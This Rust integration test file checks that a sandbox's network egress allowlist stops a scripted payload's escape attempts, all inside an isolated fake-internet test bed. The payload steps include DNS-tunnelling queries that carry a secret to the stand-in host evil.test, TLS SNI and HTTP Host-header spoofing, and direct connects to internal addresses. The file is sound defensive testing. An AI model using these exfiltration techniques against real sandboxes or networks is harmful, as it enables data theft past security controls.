//! Egress allowlists, attacked for real. `hatchery run --allow-host ...` runs in the client
//! namespace of a test bed (tests/common/egress_bed.rs: a fake internet with HTTP, HTTPS,
//! streaming and UDP servers that log what reaches them), and a python payload
//! (tests/support/egress_payload.py) tries one way out after another. Each test fails if
//! the attack works: by what the payload got, by what the report says the broker decided,
//! and by what arrived at the bed. Nothing leaves the machine: every name and address a
//! test uses is in the bed, and the client namespace has no route beyond it (its resolver
//! is the bed too, so an upstream lookup would be seen there).

mod common;

use std::process::Command;
use std::time::Duration;

use common::egress_bed::*;
use common::*;
use serde_json::{Value, json};

const API: &str = "api.test";
const EVIL: &str = "evil.test";

/// Who runs `hatchery`: root (the CI setting), or `nobody` (rootless).
#[derive(Clone, Copy, PartialEq)]
enum User {
    Root,
    Nobody,
}

/// `hatchery run --report R --ro KIT FLAGS -- python3 payload.py STEP + STEP ...` in the
/// client namespace, with `--timeout 50s` unless FLAGS give one.
fn run_payload(bed: &Bed, user: User, flags: &[String], steps: &[&[&str]]) -> Run {
    let reports = shared_tempdir();
    let report = canonical(reports.path()).join("report.json");
    let mut cmd = if user == User::Root {
        bed.command(hatchery())
    } else {
        let mut cmd = bed.command("setpriv");
        cmd.args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"])
            .arg(hatchery());
        cmd
    };
    cmd.arg("run");
    if !flags.iter().any(|f| f == "--timeout") {
        cmd.args(["--timeout", "50s"]);
    }
    cmd.arg("--report")
        .arg(&report)
        .arg("--ro")
        .arg(bed.kit.path())
        .args(flags)
        .arg("--")
        .arg(PYTHON)
        .arg(bed.kit.payload());
    for (i, step) in steps.iter().enumerate() {
        if i > 0 {
            cmd.arg("+");
        }
        cmd.args(*step);
    }
    let out = run_with_timeout(&mut cmd, Duration::from_secs(90));
    let report = serde_json::from_str(&std::fs::read_to_string(&report).unwrap_or_default())
        .unwrap_or(Value::Null);
    Run { out, report }
}

/// `--allow-host` for each entry, and api.test and evil.test resolved to the bed.
fn bed_flags(allow: &[&str]) -> Vec<String> {
    let mut flags = Vec::new();
    for entry in allow {
        flags.extend(["--allow-host".to_string(), entry.to_string()]);
    }
    for name in [API, EVIL] {
        flags.extend(["--resolve".to_string(), format!("{name}={BED_ADDR}")]);
    }
    flags
}

/// A name as the report may spell it: no trailing dot, lower case.
fn normal(v: &Value) -> Option<String> {
    v.as_str()
        .map(|s| s.trim_end_matches('.').to_ascii_lowercase())
}

impl Run {
    /// The `egress` entries of `event` that have every one of `fields` (names compared as
    /// `normal` spells them).
    fn entries(&self, event: &str, fields: &[(&str, Value)]) -> Vec<Value> {
        self.egress()
            .into_iter()
            .filter(|e| {
                e["event"] == event
                    && fields.iter().all(|(key, want)| match *key {
                        "name" => normal(&e[*key]) == normal(want),
                        _ => &e[*key] == want,
                    })
            })
            .collect()
    }

    /// The first entry of `event` with `fields`; panics with the whole list when none is.
    fn entry(&self, event: &str, fields: &[(&str, Value)]) -> Value {
        match self.entries(event, fields).into_iter().next() {
            Some(e) => e,
            None => panic!(
                "no {event} entry with {fields:?} in the report; egress: {:#}\nstderr: {}",
                Value::Array(self.egress()),
                stderr(&self.out)
            ),
        }
    }

    /// Entries of any event whose reason is `reason`.
    fn with_reason(&self, reason: &str) -> Vec<Value> {
        self.egress()
            .into_iter()
            .filter(|e| e["reason"] == reason)
            .collect()
    }
}

/// The bed's answer to `GET /` as the payload prints it.
fn hello(host: &str, sni: &str, local: &str) -> String {
    format!("status 200 hello from bed host={host} sni={sni} local={local}")
}

/// A step's line must not be the origin's answer (a refusal is a 403, a closed connection
/// or a failure, whichever the path gives).
fn assert_not_answered(line: &str, what: &str) {
    assert!(
        !line.starts_with("status 200"),
        "{what}: the request got through: {line}"
    );
}

/// The bed's servers saw no line with every one of `needles`.
fn assert_bed_saw_nothing(bed: &Bed, needles: &[&str], what: &str) {
    let seen = bed.servers().log_lines(needles);
    assert!(seen.is_empty(), "{what}: it reached the bed: {seen:?}");
}

fn skip(test: &str) -> bool {
    skip_unless_root(&format!("{test} (a test bed needs network namespaces)"))
}

#[test]
fn the_test_bed_serves_its_names_and_addresses_to_the_client_namespace_and_routes_nothing_else() {
    if skip("the test bed") {
        return;
    }
    let bed = Bed::new();
    let curl = |args: &[&str]| {
        let mut cmd = bed.command("curl");
        cmd.args(["--noproxy", "*", "-sS", "--max-time", "10"])
            .args(args);
        run_with_timeout(&mut cmd, Duration::from_secs(30))
    };
    let ca = bed.kit.ca();
    let resolve = format!("{API}:443:{BED_ADDR}");
    let out = curl(&["--resolve", &resolve, "--cacert", &ca, "https://api.test/"]);
    assert_eq!(
        format!("status 200 {}", stdout(&out)),
        hello(API, API, BED_ADDR),
        "{}",
        stderr(&out)
    );
    for addr in [PRIVATE_ADDR, LINK_LOCAL_ADDR] {
        let out = curl(&[&format!("http://{addr}/")]);
        assert_eq!(
            format!("status 200 {}", stdout(&out)),
            hello(addr, "-", addr),
            "{addr} is in the bed: {}",
            stderr(&out)
        );
    }
    assert_eq!(
        bed.servers()
            .log_lines(&["served 443", "sni=api.test"])
            .len(),
        1,
        "{}",
        bed.servers().log()
    );
    // No default route, in either family (and the bed as resolver: Bed::new checks that):
    // nothing a sandbox's broker does here can leave the machine.
    for family in ["-4", "-6"] {
        let routes = run_with_timeout(
            Command::new("ip").args(["-n", &bed.client, family, "route"]),
            Duration::from_secs(10),
        );
        assert!(
            !stdout(&routes).contains("default"),
            "{family}: {}",
            stdout(&routes)
        );
    }
    // And sandboxes start in the client namespace as anywhere else.
    let out = run_with_timeout(
        bed.command(hatchery()).args(["run", "--", "/bin/true"]),
        Duration::from_secs(60),
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
}

#[test]
fn an_allowed_name_is_reached_through_the_proxy_and_through_the_dns_stub() {
    if skip("allowed name") {
        return;
    }
    let bed = Bed::new();
    let ca = bed.kit.ca();
    let flags = bed_flags(&["api.test:443"]);
    let run = run_payload(
        &bed,
        User::Root,
        &flags,
        &[&["urllib", "https://api.test/", &ca]],
    );
    assert_eq!(
        run.line(0),
        hello(API, API, BED_ADDR),
        "urllib through HTTPS_PROXY"
    );
    let entry = run.entry(
        "egress_allowed",
        &[
            ("name", json!(API)),
            ("port", json!(443)),
            ("address", json!(BED_ADDR)),
            ("via", json!("proxy")),
            ("sni", json!(API)),
            ("reason", Value::Null),
        ],
    );
    for field in ["bytes_in", "bytes_out"] {
        assert!(entry[field].as_u64() > Some(0), "{field}: {entry}");
    }
    // A client that knows nothing of proxies: the stub's fake address, the transparent
    // listener on port 443.
    let run = run_payload(
        &bed,
        User::Root,
        &flags,
        &[&["tls", "direct", API, "443", API, &ca]],
    );
    assert_eq!(
        run.line(0),
        hello(API, API, BED_ADDR),
        "a proxy-unaware client"
    );
    run.entry(
        "dns_answered",
        &[("name", json!(API)), ("qtype", json!("A"))],
    );
    run.entry(
        "egress_allowed",
        &[
            ("name", json!(API)),
            ("port", json!(443)),
            ("address", json!(BED_ADDR)),
            ("via", json!("transparent")),
            ("sni", json!(API)),
            ("reason", Value::Null),
        ],
    );
    assert_eq!(
        bed.servers()
            .log_lines(&["served 443", "sni=api.test"])
            .len(),
        2,
        "{}",
        bed.servers().log()
    );
}

#[test]
fn a_direct_connect_to_a_real_address_fails_with_enetunreach() {
    if skip("direct connect") {
        return;
    }
    let bed = Bed::new();
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:443"]),
        &[&["tcp", BED_ADDR, "443"], &["tcp", PRIVATE_ADDR, "80"]],
    );
    for (i, addr) in [BED_ADDR, PRIVATE_ADDR].iter().enumerate() {
        let line = run.line(i);
        assert!(
            line.starts_with(&format!("fail errno={} ", libc::ENETUNREACH)),
            "{addr}: {line}"
        );
    }
    assert_bed_saw_nothing(&bed, &["accept"], "a direct connect");
}

#[test]
fn a_udp_datagram_to_a_real_address_fails_with_enetunreach_and_nothing_arrives() {
    if skip("direct udp") {
        return;
    }
    let bed = Bed::new();
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:443"]),
        &[&["udp", BED_ADDR, "53"], &["udp", PRIVATE_ADDR, "53"]],
    );
    for (i, addr) in [BED_ADDR, PRIVATE_ADDR].iter().enumerate() {
        let line = run.line(i);
        assert!(
            line.starts_with(&format!("fail errno={} ", libc::ENETUNREACH)),
            "{addr}: {line}"
        );
    }
    // A datagram that did leave would be logged within microseconds; allow for a slow
    // machine before looking.
    std::thread::sleep(Duration::from_millis(300));
    assert_bed_saw_nothing(&bed, &["udp "], "a direct datagram");
}

#[test]
fn dns_queries_for_names_not_allowed_are_refused_and_never_looked_up_upstream() {
    if skip("dns exfiltration") {
        return;
    }
    let bed = Bed::new();
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:443"]),
        &[
            &["dns", "udp", "TXT", "s3cr3t.evil.test"],
            &["dns", "udp", "A", "s3cr3t.evil.test"],
            &["dns", "tcp", "TXT", "s3cr3t.evil.test"],
            &["dns", "udp", "A", "s3cr3t.api.test"],
            &["dns", "udp", "TXT", "api.test"],
            &["dns", "udp", "AAAA", "api.test"],
            &["dns", "udp", "A", "api.test"],
        ],
    );
    for (i, what) in [
        "TXT for a name not allowed",
        "A for a name not allowed",
        "TXT over TCP",
        "A for a name under an allowed one",
        "TXT for an allowed name",
    ]
    .iter()
    .enumerate()
    {
        let line = run.line(i);
        assert!(line.starts_with("rcode 5 "), "{what}: {line}");
    }
    assert_eq!(
        run.line(5),
        "rcode 0 answers -",
        "AAAA for an allowed name: no data"
    );
    let answer = run.line(6);
    let fake: Option<std::net::Ipv4Addr> = answer
        .strip_prefix("rcode 0 answers ")
        .and_then(|a| a.parse().ok());
    assert!(
        fake.is_some_and(|a| a.octets()[..2] == [127, 1]),
        "A for an allowed name: one address of 127.1.0.0/16: {answer}"
    );
    for qtype in ["TXT", "A"] {
        run.entry(
            "dns_refused",
            &[
                ("name", json!("s3cr3t.evil.test")),
                ("qtype", json!(qtype)),
                ("via", json!("dns")),
            ],
        );
    }
    run.entry(
        "dns_answered",
        &[("name", json!(API)), ("qtype", json!("A"))],
    );
    assert_eq!(
        run.report["egress_upstream_lookups"],
        json!(0),
        "the stub looked a name up"
    );
    assert_bed_saw_nothing(&bed, &["udp "], "an upstream query (the client's resolver)");
}

#[test]
fn connect_to_a_name_or_port_not_allowed_is_answered_403_and_goes_nowhere() {
    if skip("connect not allowed") {
        return;
    }
    let bed = Bed::new();
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:443"]),
        &[
            &["connect", EVIL, "443"],
            &["connect", API, "8443"],
            &["connect", BED_ADDR, "443"],
        ],
    );
    for (i, what) in ["a name not allowed", "a port not allowed", "a bare address"]
        .iter()
        .enumerate()
    {
        assert_eq!(run.line(i), "proxy-status 403", "{what}");
    }
    run.entry(
        "egress_denied",
        &[
            ("name", json!(EVIL)),
            ("port", json!(443)),
            ("via", json!("proxy")),
            ("reason", json!("not_allowed")),
        ],
    );
    run.entry(
        "egress_denied",
        &[("port", json!(8443)), ("reason", json!("not_allowed"))],
    );
    assert!(
        run.entries(
            "egress_denied",
            &[("port", json!(443)), ("via", json!("proxy"))]
        )
        .len()
            >= 2,
        "the bare address's refusal is recorded too: {:#}",
        Value::Array(run.egress())
    );
    assert_bed_saw_nothing(&bed, &["accept"], "a refused CONNECT");
}

#[test]
fn a_tls_client_hello_naming_another_host_is_cut() {
    if skip("sni mismatch") {
        return;
    }
    let bed = Bed::new();
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:443"]),
        &[
            &["tls", "connect", API, "443", EVIL, "none"],
            &["tls", "direct", API, "443", EVIL, "none"],
        ],
    );
    for (i, via) in ["proxy", "transparent"].iter().enumerate() {
        assert_not_answered(&run.line(i), &format!("SNI evil.test {via}"));
        run.entry(
            "egress_denied",
            &[
                ("name", json!(API)),
                ("port", json!(443)),
                ("via", json!(via)),
                ("reason", json!("sni_mismatch")),
            ],
        );
    }
    assert_bed_saw_nothing(&bed, &["served", "sni=evil.test"], "SNI evil.test");
}

#[test]
fn plain_http_is_answered_only_when_its_host_header_names_the_allowed_host() {
    if skip("host mismatch") {
        return;
    }
    let bed = Bed::new();
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:80"]),
        &[
            &["http", "direct", API, "80", EVIL],
            &["http", "direct", API, "80", API],
            &["http", "proxy", API, "80", API],
        ],
    );
    assert_not_answered(&run.line(0), "Host: evil.test");
    run.entry(
        "egress_denied",
        &[
            ("name", json!(API)),
            ("port", json!(80)),
            ("reason", json!("host_mismatch")),
        ],
    );
    assert_bed_saw_nothing(&bed, &["served", "host=evil.test"], "Host: evil.test");
    assert_eq!(run.line(1), hello(API, "-", BED_ADDR), "Host: api.test");
    assert!(
        run.line(2)
            .starts_with(&format!("status 200 hello from bed host={API}")),
        "an absolute URI through the proxy: {}",
        run.line(2)
    );
    for via in ["transparent", "proxy"] {
        run.entry(
            "egress_allowed",
            &[
                ("name", json!(API)),
                ("port", json!(80)),
                ("address", json!(BED_ADDR)),
                ("via", json!(via)),
            ],
        );
    }
}

#[test]
fn an_allowed_name_resolving_to_a_private_or_link_local_address_is_refused() {
    if skip("private address") {
        return;
    }
    let bed = Bed::new();
    for addr in [PRIVATE_ADDR, LINK_LOCAL_ADDR] {
        let run = run_payload(
            &bed,
            User::Root,
            &strings(&[
                "--allow-host",
                "inside.test:80",
                "--resolve",
                &format!("inside.test={addr}"),
            ]),
            &[
                &["http", "direct", "inside.test", "80", "inside.test"],
                &["http", "proxy", "inside.test", "80", "inside.test"],
            ],
        );
        for (i, via) in ["transparent", "proxy"].iter().enumerate() {
            assert_not_answered(&run.line(i), &format!("inside.test={addr} {via}"));
            run.entry(
                "egress_denied",
                &[
                    ("name", json!("inside.test")),
                    ("port", json!(80)),
                    ("via", json!(via)),
                    ("reason", json!("private_address")),
                ],
            );
        }
        assert_bed_saw_nothing(&bed, &["accept", &format!("local={addr} ")], addr);
    }
}

#[test]
fn a_private_address_named_by_an_allow_entry_or_its_cidr_is_reached() {
    if skip("private address allowed") {
        return;
    }
    let bed = Bed::new();
    let resolve = format!("inside.test={PRIVATE_ADDR}");
    for explicit in [format!("{PRIVATE_ADDR}:80"), "10.255.0.0/24:80".to_string()] {
        let run = run_payload(
            &bed,
            User::Root,
            &strings(&[
                "--allow-host",
                "inside.test:80",
                "--allow-host",
                &explicit,
                "--resolve",
                &resolve,
            ]),
            &[
                &["http", "direct", "inside.test", "80", "inside.test"],
                &["http", "proxy", PRIVATE_ADDR, "80", PRIVATE_ADDR],
            ],
        );
        assert_eq!(
            run.line(0),
            hello("inside.test", "-", PRIVATE_ADDR),
            "{explicit}: the name"
        );
        assert!(
            run.line(1)
                .starts_with(&format!("status 200 hello from bed host={PRIVATE_ADDR}")),
            "{explicit}: the address through the proxy: {}",
            run.line(1)
        );
        run.entry(
            "egress_allowed",
            &[
                ("name", json!("inside.test")),
                ("port", json!(80)),
                ("address", json!(PRIVATE_ADDR)),
                ("reason", Value::Null),
            ],
        );
    }
}

#[test]
fn a_connection_to_a_fake_address_never_handed_out_is_refused() {
    if skip("unknown pool address") {
        return;
    }
    let bed = Bed::new();
    // The transparent listener on 0.0.0.0:443 takes every loopback address; one outside
    // the pool and one inside it that the stub never gave must both lead nowhere, even
    // with the allowed name in the ClientHello.
    let run = run_payload(
        &bed,
        User::Root,
        &bed_flags(&["api.test:443"]),
        &[
            &["tls", "direct", "127.2.0.1", "443", API, "none"],
            &["tls", "direct", "127.1.255.254", "443", API, "none"],
        ],
    );
    assert_not_answered(&run.line(0), "127.2.0.1");
    assert_not_answered(&run.line(1), "127.1.255.254");
    run.entry(
        "egress_denied",
        &[
            ("port", json!(443)),
            ("via", json!("transparent")),
            ("reason", json!("unknown_pool_address")),
        ],
    );
    assert_bed_saw_nothing(&bed, &["served"], "a fake address never handed out");
}

#[test]
fn max_egress_cuts_the_transfer_near_the_budget_and_refuses_new_connections() {
    if skip("byte budget") {
        return;
    }
    let bed = Bed::new();
    let mut flags = bed_flags(&["api.test:9000"]);
    flags.extend(strings(&["--max-egress", "64K"]));
    let run = run_payload(
        &bed,
        User::Root,
        &flags,
        &[&["read-all", API, "9000"], &["read-all", API, "9000"]],
    );
    let read = |i: usize| -> u64 {
        let line = run.line(i);
        match line
            .strip_prefix("read ")
            .and_then(|r| r.split_whitespace().next())
            .and_then(|n| n.parse().ok())
        {
            Some(n) => n,
            None => panic!("step {i}: {line}"),
        }
    };
    let (first, second) = (read(0), read(1));
    assert!(
        first > 0,
        "the first connection got nothing: the test proves nothing"
    );
    // 1 MiB was on offer each time; the budget allows 64 KiB and one chunk in flight.
    assert!(
        first + second <= 200 * 1024,
        "{first} + {second} bytes under --max-egress 64K"
    );
    assert!(
        !run.with_reason("budget_exhausted").is_empty(),
        "{:#}",
        Value::Array(run.egress())
    );
    let counted: u64 = run
        .egress()
        .iter()
        .filter(|e| e["via"] != "dns")
        .filter_map(|e| e["bytes_in"].as_u64())
        .sum();
    assert!(
        counted <= 200 * 1024,
        "the report counts {counted} bytes in"
    );
}

#[test]
fn a_timed_out_run_leaves_no_broker_and_its_connections_are_closed() {
    if skip("killed run") {
        return;
    }
    let bed = Bed::new();
    let marker = format!(
        "hatchery-egress-kill-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0)
    );
    let mut flags = bed_flags(&["api.test:9001"]);
    flags.extend(strings(&["--timeout", "5s"]));
    let run = run_payload(
        &bed,
        User::Root,
        &flags,
        &[&["read-forever", API, "9001", &marker]],
    );
    assert_eq!(code(&run.out), 124, "{}", stderr(&run.out));
    assert_eq!(run.line(0), "ok connected");
    assert!(
        !bed.servers().log_lines(&["accept 9001"]).is_empty(),
        "the connection never reached the bed: the test proves nothing"
    );
    wait_process(
        &marker,
        false,
        Duration::from_secs(10),
        "a process of the timed-out run survived",
    );
    // The supervisor and its broker lived in the client namespace: nothing may be left
    // there, whatever its command line (a broker ending on its parent's death is given a
    // moment).
    let left = || {
        let pids = run_with_timeout(
            Command::new("ip").args(["netns", "pids", &bed.client]),
            Duration::from_secs(10),
        );
        stdout(&pids)
    };
    let start = std::time::Instant::now();
    while !left().is_empty() && start.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(50));
    }
    let pids = left();
    assert!(
        pids.is_empty(),
        "left running in the client namespace: {}",
        stdout(&run_with_timeout(
            Command::new("ps").args(["-o", "pid,args", "-p", &pids.replace('\n', ",")]),
            Duration::from_secs(10),
        ))
    );
    assert!(
        bed.servers()
            .wait_for_log("closed 9001", Duration::from_secs(10)),
        "the bed's server still has its connection: {}",
        bed.servers().log()
    );
}

#[test]
fn rootless_a_loopback_address_named_by_an_allow_entry_is_reached_through_the_proxy() {
    if skip("rootless loopback allowed") {
        return;
    }
    let bed = Bed::new();
    let server = bed.loopback_server();
    let target = format!("127.0.0.1:{}", server.port);
    let run = run_payload(
        &bed,
        User::Nobody,
        &strings(&["--allow-host", &target]),
        &[&["urllib", &format!("http://{target}/")]],
    );
    assert!(
        run.line(0)
            .starts_with(&format!("status 200 hello from bed host={target}")),
        "{}",
        run.line(0)
    );
    run.entry(
        "egress_allowed",
        &[
            ("port", json!(server.port)),
            ("address", json!("127.0.0.1")),
            ("via", json!("proxy")),
            ("reason", Value::Null),
        ],
    );
    assert_eq!(
        run.report["enforcement"]["rootless"],
        json!(true),
        "not a rootless run"
    );
}

#[test]
fn rootless_a_name_resolving_to_loopback_is_refused_as_private() {
    if skip("rootless loopback by name") {
        return;
    }
    let bed = Bed::new();
    let server = bed.loopback_server();
    let port = server.port.to_string();
    let run = run_payload(
        &bed,
        User::Nobody,
        &strings(&[
            "--allow-host",
            &format!("local.test:{port}"),
            "--resolve",
            "local.test=127.0.0.1",
        ]),
        &[
            &["urllib", &format!("http://local.test:{port}/")],
            &["http", "direct", "local.test", &port, "local.test"],
        ],
    );
    for (i, via) in ["proxy", "transparent"].iter().enumerate() {
        assert_not_answered(&run.line(i), &format!("local.test {via}"));
        run.entry(
            "egress_denied",
            &[
                ("name", json!("local.test")),
                ("via", json!(via)),
                ("reason", json!("private_address")),
            ],
        );
    }
    let seen = server.log_lines(&["accept"]);
    assert!(
        seen.is_empty(),
        "the host's loopback server was reached: {seen:?}"
    );
}

#[test]
fn reserved_ports_and_malformed_allow_entries_are_refused_before_anything_starts() {
    for (args, named) in [
        (["--allow-host", "x.test:53"], "53"),
        (["--allow-host", "x.test:3128"], "3128"),
        (["--allow-host", "*.org:443"], "*.org"),
        (["--allow-host", "10.0.0.1/8:443"], "10.0.0.1/8"),
        (["--allow-host", "api.test"], "api.test"),
        (["--allow-host", "api.test:0"], "api.test:0"),
        (["--allow-host", "api.test:65536"], "65536"),
        (["--resolve", "api.test=not-an-address"], "not-an-address"),
        (["--max-egress", "0"], "--max-egress"),
    ] {
        let mut all = vec!["run", "--allow-host", "api.test:443"];
        all.extend(args);
        all.extend(["--", "sh", "-c", "echo started"]);
        let out = hatchery_cmd(&all);
        let err = stderr(&out);
        assert_eq!(code(&out), 2, "{args:?}: {err}");
        assert!(stdout(&out).is_empty(), "{args:?} started the command");
        assert!(
            err.contains(named) && !err.contains("unexpected argument"),
            "{args:?}: the error does not name {named}: {err}"
        );
    }
}

#[test]
fn the_host_network_is_shared_only_when_asked_for_in_so_many_words() {
    let dir = shared_tempdir();
    let profile = canonical(dir.path()).join("host-net.toml");
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("profiles/default.toml"),
    )
    .unwrap_or_default()
    .replace("name = \"default\"", "name = \"host-net\"")
    .replace("net = true", "net = false");
    std::fs::write(&profile, text).unwrap_or_else(|e| panic!("{e}"));
    let interfaces = "import socket; print(len(socket.if_nameindex()))";
    // A profile that shares the host's network is refused without the flag...
    let o = hatchery_cmd(&[
        "run",
        "--profile",
        profile.to_str().unwrap_or_default(),
        "--",
        PYTHON,
        "-c",
        interfaces,
    ]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("--dangerously-share-host-network"),
        "{}",
        stderr(&o)
    );
    // ...the flag shares it (more interfaces than the sandbox's own `lo`)...
    let o = hatchery_cmd(&[
        "run",
        "--dangerously-share-host-network",
        "--",
        PYTHON,
        "-c",
        interfaces,
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let host = std::fs::read_dir("/sys/class/net").map_or(0, |d| d.count());
    assert_eq!(stdout(&o).trim(), host.to_string(), "{}", stderr(&o));
    // ...and without it the sandbox has its `lo` alone.
    let o = hatchery_cmd(&["run", "--", PYTHON, "-c", interfaces]);
    assert_eq!(stdout(&o).trim(), "1", "{}", stderr(&o));
    // A broker and the host's network exclude each other.
    let o = hatchery_cmd(&[
        "run",
        "--dangerously-share-host-network",
        "--allow-host",
        "api.test:443",
        "--",
        "true",
    ]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
}

#[test]
fn a_resolv_conf_linked_into_a_system_directory_names_the_stub_inside_and_is_left_alone() {
    if skip_unless_root("resolv.conf linked into /usr") {
        return;
    }
    let target = std::path::Path::new("/usr/lib/os-release");
    let Ok(before) = std::fs::read_to_string(target) else {
        eprintln!("SKIP: no /usr/lib/os-release to link to");
        return;
    };
    // A copy of /etc whose resolv.conf leads into /usr (systemd-resolved's static mode),
    // put in place of the host's /etc in a mount namespace of the test's own.
    let dir = shared_tempdir();
    let etc = canonical(dir.path()).join("etc");
    let copy = run_with_timeout(
        Command::new("cp").args(["-a", "/etc"]).arg(&etc),
        Duration::from_secs(60),
    );
    assert!(copy.status.success(), "{}", stderr(&copy));
    let link = etc.join("resolv.conf");
    let _ = std::fs::remove_file(&link);
    std::os::unix::fs::symlink("../usr/lib/os-release", &link).unwrap_or_else(|e| panic!("{e}"));
    let script = format!(
        "mount --bind {} /etc && exec {} run --allow-host api.test:443 -- cat /etc/resolv.conf",
        etc.display(),
        hatchery().display()
    );
    let o = run_with_timeout(
        Command::new("unshare").args(["-m", "--propagation", "private", "sh", "-c", &script]),
        Duration::from_secs(60),
    );
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stdout(&o).contains("nameserver 127.0.0.1"),
        "{}",
        stdout(&o)
    );
    assert_eq!(
        std::fs::read_to_string(target).unwrap_or_default(),
        before,
        "the host's file changed"
    );
}
